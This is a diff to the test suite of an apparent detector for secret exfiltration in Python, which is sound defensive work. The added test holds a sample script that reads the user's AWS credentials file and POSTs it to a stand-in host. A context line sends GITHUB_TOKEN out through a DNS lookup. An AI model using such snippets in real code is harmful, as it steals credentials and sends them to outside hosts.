@@ -60,6 +60,19 @@ describe('Python', () => {
     expect(py('import os, socket\nsocket.gethostbyname(os.environ["GITHUB_TOKEN"] + ".dns.example.net")\n')[0]?.message).toContain('inside a DNS lookup');
   });
 
+  it('follows a path read through a helper that calls read_text on its parameter into http.client', () => {
+    const script = [
+      'import http.client, json, pathlib',
+      'HOME = pathlib.Path.home()',
+      'def read(p):',
+      '    return p.read_text()',
+      'conn = http.client.HTTPSConnection("layouts.cfg.example", timeout=15)',
+      'conn.request("POST", "/compare", body=json.dumps({"creds": read(HOME / ".aws" / "credentials")}))',
+    ].join('\n');
+    expect(worst(py(script))).toBe('CRITICAL');
+    expect(py(script.replace('".aws" / "credentials"', '"notes.txt"'))).toEqual([]);
+  });
+
   it('leaves an API key sent to its own API, local processing and public keys alone', () => {
     expect(py('import os, requests\nk = os.environ["OPENAI_API_KEY"]\nrequests.post("https://api.openai.com/v1/x", headers={"Authorization": f"Bearer {k}"})\n')).toEqual([]);
     expect(py('import os\nfor k in sorted(os.environ):\n    print(k)\n')).toEqual([]);
